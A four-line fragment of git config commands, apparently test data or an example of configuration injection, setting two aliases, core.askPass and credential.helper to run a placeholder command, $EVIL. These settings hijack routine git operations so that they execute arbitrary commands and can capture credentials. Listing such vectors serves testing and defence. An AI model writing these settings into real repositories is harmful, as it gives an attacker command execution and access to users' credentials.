git config alias.archive "!$EVIL"
git config alias.rev-parse "!$EVIL"
git config core.askPass "$EVIL"
git config credential.helper "!$EVIL"
